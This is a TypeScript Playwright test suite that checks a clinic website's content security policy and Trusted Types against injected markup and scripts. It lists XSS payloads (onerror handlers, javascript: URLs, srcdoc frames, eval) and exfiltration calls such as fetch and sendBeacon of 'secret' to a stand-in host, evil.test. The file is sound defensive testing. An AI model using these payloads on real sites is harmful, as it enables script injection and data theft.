import { resolve } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launch } from '../../scripts/chromium'
import { anyPort } from '../../server/ports'
import { serveSite, type RunningSite } from '../../server/site'
import { builtPage, notFoundPath, siteDir } from '../helpers/builtSite'
import { hydrate, inTabs } from '../helpers/siteBrowser'
import { templatePages } from '../helpers/templates'

/**
 * The content security policy and the other headers in a browser, from the server of `npm start`: a
 * page of every kind and every dialog goes through them without a violation (the content audit loads
 * each page of data/ under its policy), and what is smuggled into a page does not run. Each attempt
 * is also made on the same page without its policies, where it must succeed: an attempt that cannot
 * harm proves nothing.
 */
const urls = templatePages.filter((path) => path !== notFoundPath)

let browser: Browser
let site: RunningSite
const contexts: BrowserContext[] = []
/** Every address the server was asked for, also by the browser on its own account. */
const asked: string[] = []

beforeAll(async () => {
  ;[site, browser] = await Promise.all([
    serveSite({
      dir: resolve(siteDir),
      port: await anyPort(),
      before: ({ url }) => (asked.push(url!), false),
    }),
    launch(),
  ])
}, 60_000)
afterAll(async () => {
  await browser?.close()
  await site?.close()
})
afterEach(async () => {
  await Promise.all(contexts.splice(0).map((context) => context.close()))
})

type Watched = { page: Page; violations: string[]; reset: () => Promise<string[]> }

/** A page that tells of everything its policies refuse, by event, by report and in the console. */
async function watched(): Promise<Watched> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    permissions: ['clipboard-write'],
  })
  contexts.push(context)
  const violations: string[] = []
  await context.exposeBinding('__refused', (_, what: string) => void violations.push(what))
  await context.addInitScript(() => {
    const tell = (what: string) =>
      (window as unknown as { __refused: (what: string) => void }).__refused(
        `${what} on ${location.pathname}`,
      )
    document.addEventListener('securitypolicyviolation', (event) =>
      tell(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`),
    )
    // Permissions policy and what else is reported, from the start of the page.
    new ReportingObserver(
      (reports) => reports.forEach(({ type, body }) => tell(`${type}: ${JSON.stringify(body)}`)),
      { buffered: true },
    ).observe()
  })
  const page = await context.newPage()
  page.setDefaultTimeout(20_000)
  page.on('console', (message) => {
    if (
      /content.security|violat|trusted|permissions.policy|refused to|not allowed|blocked/i.test(
        message.text(),
      )
    )
      violations.push(message.text())
  })
  page.on('pageerror', (error) => void violations.push(`thrown: ${error.message}`))
  return {
    page,
    violations,
    reset: async () => (
      await page.evaluate(() => new Promise((done) => setTimeout(done, 0))),
      violations.splice(0)
    ),
  }
}

const go = async (page: Page, path: string) => {
  await page.goto(site.url + path, { waitUntil: 'load' })
}
/** Moves on as a link of the running site does. */
const navigate = (page: Page, path: string) =>
  page.evaluate(
    (to) => (window as unknown as { ___navigate: (to: string) => void }).___navigate(to),
    path,
  )

describe('a page of every kind', () => {
  it('runs its inline scripts under its own policy, with no violation', async () => {
    const wrong: string[] = []
    const tabs: Awaited<ReturnType<typeof watched>>[] = []
    const open = async () => {
      const tab = await watched()
      tabs.push(tab)
      return tab
    }
    await inTabs(4, open, urls, async ({ page }, path) => {
      await go(page, path)
      const state = await page.evaluate(() => ({
        policyFirst: document.head.children[1]?.getAttribute('http-equiv'),
        ran: '__boot' in window && '__scripts' in window,
        ownCluster: window.originAgentCluster,
      }))
      if (
        JSON.stringify(state) !==
        '{"policyFirst":"Content-Security-Policy","ran":true,"ownCluster":true}'
      )
        wrong.push(`${path} ${JSON.stringify(state)}`)
    })
    expect([...wrong, ...tabs.flatMap(({ violations }) => violations)]).toEqual([])
  }, 120_000)

  it('can be reached from page to page inside the running site with no violation', async () => {
    const { page, violations } = await watched()
    await go(page, '/')
    await hydrate(page)
    const wrong: string[] = []
    for (const path of urls.filter((one) => one !== '/')) {
      const { html } = builtPage(path)
      await navigate(page, path)
      const title = /<title[^>]*>([^<]*)/
        .exec(html)![1]!
        .replaceAll('&#x27;', "'")
        .replaceAll('&amp;', '&')
      await page.waitForFunction(
        ([to, name]) => location.pathname === to && document.title === name,
        [path, title],
      )
      if (await page.locator('script[type="application/ld+json"]').count())
        wrong.push(`${path} keeps the structured data of the page before`)
      const canonical = await page
        .locator('link[rel=canonical]')
        .evaluateAll((all) => all.map((link) => (link as HTMLLinkElement).href))
      const own = /<link[^>]*rel="canonical"[^>]*href="([^"]+)"/.exec(html)?.[1]
      if (canonical.join(' and ') !== (own ?? ''))
        wrong.push(`${path} is said to be ${canonical.join(' and ')}`)
    }
    expect([...wrong, ...violations]).toEqual([])
  }, 120_000)

  it('the not-found page does too, for an unknown product as well, and when the running site leads there', async () => {
    const { page, reset } = await watched()
    await go(page, '/product-analysis/nothing-we-know/')
    await page.getByRole('heading', { name: 'We have no analysis for this product' }).waitFor()
    await go(page, '/')
    await hydrate(page)
    await navigate(page, '/no-such-page/')
    await page.getByRole('heading', { name: 'Page not found' }).waitFor()
    await navigate(page, '/lip-fillers/')
    await page.getByRole('heading', { level: 1, name: /lip/i }).waitFor()
    expect(await reset()).toEqual([])
  })

  it('the page in place of an old address leads on, with its query and hash', async () => {
    const { page, reset } = await watched()
    await go(page, '/booking/index.html?utm_source=x#hours')
    await page.waitForURL('**/contact/?utm_source=x#hours')
    expect(await reset()).toEqual([])
  })

  it('/cms/ opens under the policy of its own', async () => {
    const { page, reset } = await watched()
    const response = await page.goto(`${site.url}/cms/`)
    expect(response!.headers()['content-security-policy']).toContain('https://api.github.com')
    expect(await page.locator('meta[http-equiv]').count()).toBe(0)
    expect(await reset()).toEqual([])
  })
})

// What the dialogs' tests do would show a violation in the console, where they look for complaints.
describe('every tool in use, with no violation', () => {
  const cors = {
    'access-control-allow-origin': '*',
    'access-control-allow-headers': '*',
    'access-control-allow-methods': '*',
  }
  const visit = async (path: string) => {
    const seen = await watched()
    await seen.page.route('**/functions/v1/*', (route) =>
      route.request().method() === 'OPTIONS'
        ? route.fulfill({ status: 204, headers: cors })
        : route.fulfill({
            status: 403,
            headers: cors,
            json: { error: 'This link has expired.', code: 'token-expired', requestId: 'x' },
          }),
    )
    await go(seen.page, path)
    return seen
  }

  const uses: [name: string, path: string, use: (page: Page) => Promise<void>][] = [
    [
      'the cost estimator',
      '/botox-cost-london/?areas=frown,forehead',
      async (page) => {
        await page.getByRole('checkbox', { name: /^Crow’s feet/ }).check()
        await page.getByRole('button', { name: 'Copy link' }).click()
        await page.getByText('Link copied.').waitFor()
      },
    ],
    [
      'the finder and the face map',
      '/treatments/',
      async (page) => {
        await hydrate(page)
        await page.getByRole('combobox', { name: 'Area' }).selectOption('lips')
        await page.getByRole('searchbox', { name: 'Treatment or word' }).fill('lip')
        await page.waitForURL(/area=lips/)
        await page.locator('main li > a[href^="/treatments/?area="]').first().hover()
      },
    ],
    [
      'the upload page',
      '/admin/video-upload/',
      async (page) => {
        await page.getByRole('textbox', { name: 'One-time token' }).fill('a1'.repeat(32))
        await page
          .locator('.uppy-Dashboard-input')
          .first()
          .setInputFiles({
            name: 'film.mp4',
            mimeType: 'video/mp4',
            buffer: Buffer.alloc(100_000, 7),
          })
        await page.getByRole('button', { name: 'Start upload' }).click()
        await page.getByText('This link has expired.').waitFor()
      },
    ],
    [
      'the forced update of the sitemap',
      '/about/',
      async (page) => {
        await page.evaluate(() => localStorage.setItem('forceSitemapUpdate', 'true'))
        const said = page.waitForEvent('console', (message) =>
          message.text().startsWith('[sitemap]'),
        )
        await page.reload()
        const text = (await said).text()
        const [, routes] = /^\[sitemap\] (\d+) routes found, \d+ in the published sitemap/.exec(
          text,
        )!
        expect(Number(routes)).toBeGreaterThan(30)
        expect(text).toContain('blob:')
      },
    ],
  ]

  it.each(uses)('%s', async (_, path, use) => {
    const { page, reset } = await visit(path)
    await use(page)
    expect(await reset()).toEqual([])
  })
})

/** The page that is attacked, a light one since each attempt loads it, and where the attacker is. */
const target = '/privacy/'
const foreign = 'http://evil.test'

type Attack = { html?: string; code?: string }

/** Returns what the server answers for a page; a test changes it, and gives it to the browser. */
async function answerOf(path: string) {
  const response = await fetch(site.url + path)
  const headers = Object.fromEntries(response.headers)
  // The body is unpacked here.
  delete headers['content-encoding']
  delete headers['content-length']
  return { headers, body: await response.text() }
}

type Stage = Watched & { act: (attack: Attack) => Promise<{ ended: boolean; harmed: boolean }> }

/**
 * The page, with something put into its HTML, or with code that runs in it as the site's own would;
 * and what came of it.
 */
async function stage(policies: boolean): Promise<Stage> {
  const seen = await watched()
  const { page, violations } = seen
  let smuggled = ''
  let sent = 0
  await page.route(`${foreign}/**`, (route) => {
    sent++
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: 'window.__ran = true',
    })
  })
  const { headers, body } = await answerOf(target)
  if (!policies) delete headers['content-security-policy']
  // The policies and the scripts of a page; what else it shows would only take time to load.
  const bare = body
    .replaceAll(/<style[^]*?<\/style>/g, '')
    .replace(/(<div id="___gatsby">)[^]*(?=<\/main>)/, '$1<main>')
  const shown = policies
    ? bare
    : bare.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
  await page.route(site.url + target, (route) =>
    route.fulfill({ headers, body: shown.replace('</main>', () => `${smuggled}</main>`) }),
  )
  const harmed = async () =>
    sent > 0 ||
    asked.includes('/about/?ahead') ||
    (await page
      .evaluate(() => '__ran' in window || !document.baseURI.startsWith(location.origin))
      .catch(() => false))
  const until = async (what: () => boolean | Promise<boolean>) => {
    for (const end = Date.now() + 20_000; Date.now() < end; await wait(20))
      if (await what()) return true
    return false
  }
  return {
    ...seen,
    async act({ html = '', code = '' }) {
      await page.goto('about:blank')
      smuggled = html
      sent = asked.length = violations.length = 0
      await page.goto(site.url + target, { waitUntil: 'domcontentloaded' })
      // From a timer: what a debugger runs itself is let through.
      if (code) await page.evaluate(`setTimeout(() => { ${code} })`)
      // The policies' own word is what ends the wait: what they refuse, they report.
      const ended = await until(policies ? () => violations.length > 0 : harmed)
      return { ended, harmed: await harmed() }
    },
  }
}

let stages: { without: Stage; under: Stage } | undefined

async function both(attack: Attack) {
  if (!stages) {
    stages = { without: await stage(false), under: await stage(true) }
    // They serve all attacks, so they are not closed after each.
    contexts.length = 0
  }
  return { without: await stages.without.act(attack), under: await stages.under.act(attack) }
}
const refused = { without: { ended: true, harmed: true }, under: { ended: true, harmed: false } }

describe('what is smuggled into a page as markup does not run', () => {
  const submit = "HTMLFormElement.prototype.submit.call(document.getElementById('bad'))"
  it.each<[what: string, html: string, code?: string]>([
    ['an inline script', '<script>window.__ran = true</script>'],
    ['a module', '<script type="module">window.__ran = true</script>'],
    ['an event handler', '<img src="/nothing.png" onerror="window.__ran = true">'],
    ['an event handler of a drawing', '<svg onload="window.__ran = true"></svg>'],
    ['a script of a foreign host', `<script src="${foreign}/a.js"></script>`],
    ['a data: script', '<script src="data:text/javascript,window.__ran=true"></script>'],
    ['a javascript: frame', '<iframe src="javascript:void(parent.__ran=true)"></iframe>'],
    [
      'a frame with a document of its own',
      '<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>',
    ],
    [
      'a javascript: link',
      '<a id="bad" href="javascript:void(window.__ran=true)">Press</a>',
      "document.getElementById('bad').click()",
    ],
    [
      'a javascript: form',
      '<form id="bad" action="javascript:void(window.__ran=true)"></form>',
      submit,
    ],
    [
      'a form that sends to a foreign host',
      `<form id="bad" action="${foreign}/take"><input name="q" value="secret"></form>`,
      submit,
    ],
    ['a base for addresses', `<base href="${foreign}/">`],
    ['a style sheet of a foreign host', `<link rel="stylesheet" href="${foreign}/a.css">`],
    ['a picture of a foreign host', `<img src="${foreign}/a.png?secret">`],
    ['a frame of a foreign host', `<iframe src="${foreign}/a.html"></iframe>`],
    ['a plug-in', `<object data="${foreign}/a.svg" type="image/svg+xml"></object>`],
    [
      'rules that fetch pages ahead',
      '<script type="speculationrules">{"prefetch":[{"urls":["/about/?ahead"],"eagerness":"immediate"}]}</script>',
    ],
  ])('%s', async (_, html, ...[code]) => expect(await both({ html, code })).toEqual(refused))
})

describe('what a script is tricked into does not run', () => {
  const script = "const script = document.createElement('script');"
  const insert = 'document.body.append(script)'
  it.each([
    [
      'markup put into an element',
      `document.querySelector('main').innerHTML = '<img src="/nothing.png" onerror="window.__ran = true">'`,
    ],
    [
      'markup put beside an element',
      `document.querySelector('main').insertAdjacentHTML('afterend', '<img src="/nothing.png" onerror="window.__ran = true">')`,
    ],
    ['markup written into the page', `document.write('<script>window.__ran = true<\\/script>')`],
    [
      'markup parsed as a part of the page',
      `document.body.append(document.createRange().createContextualFragment('<script>window.__ran = true<\\/script>'))`,
    ],
    ['eval', `eval('window.__ran = true')`],
    ['new Function', `new Function('window.__ran = true')()`],
    ['a timer with a text', `setTimeout('window.__ran = true')`],
    ['a script element with a text', `${script} script.text = 'window.__ran = true'; ${insert}`],
    [
      'a script element with a text node',
      `${script} script.append('window.__ran = true'); ${insert}`,
    ],
    [
      'a script element with a foreign address',
      `${script} script.src = '${foreign}/a.js'; ${insert}`,
    ],
    [
      'a script element with a data: address',
      `${script} script.src = 'data:text/javascript,window.__ran=true'; ${insert}`,
    ],
    ['a foreign module', `import('${foreign}/a.js')`],
    [
      'an event handler set as an attribute',
      `document.body.setAttribute('onclick', 'window.__ran = true'); document.body.click()`,
    ],
    ['a javascript: address', `location.href = 'javascript:void(window.__ran = true)'`],
    [
      'a worker from a text',
      `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => (window.__ran = true)`,
    ],
    [
      'a policy that lets everything through',
      `document.querySelector('main').innerHTML = trustedTypes.createPolicy('lax', { createHTML: (html) => html }).createHTML('<img src="/nothing.png" onerror="window.__ran = true">')`,
    ],
    [
      'a second policy with the name of the first',
      `${script} script.src = trustedTypes.createPolicy('site', { createScriptURL: (url) => url }).createScriptURL('${foreign}/a.js'); ${insert}`,
    ],
    ['a message to a foreign host', `fetch('${foreign}/take', { method: 'POST', body: 'secret' })`],
    ['a message that outlives the page', `navigator.sendBeacon('${foreign}/take', 'secret')`],
  ])('%s', async (_, code) => expect(await both({ code })).toEqual(refused))
})

it('the site’s own policy gives the address of a script only for the site’s own', async () => {
  const { page } = await watched()
  await go(page, target)
  const given = (addresses: string[]) =>
    page.evaluate(
      (all) => all.map((one) => String(window.__scripts!.createScriptURL(one))),
      addresses,
    )
  const own = [
    '/app-0123456789abcdef0123.js',
    '/component---src-pages-404-tsx-0123456789abcdef0123.js',
    `${site.url}/app-0123456789abcdef0123.js`,
  ]
  expect(await given(own)).toEqual(own)
  const others = [
    `${foreign}/a.js`,
    '//evil.test/a.js',
    '/\\evil.test/a.js',
    'data:text/javascript,1',
    'javascript:1',
    '/cms/cms.js',
    '/data/search.json',
    `${foreign}/?${site.url}/a.js`,
    '',
  ]
  expect(await given(others)).toEqual(others.map(() => ''))
})
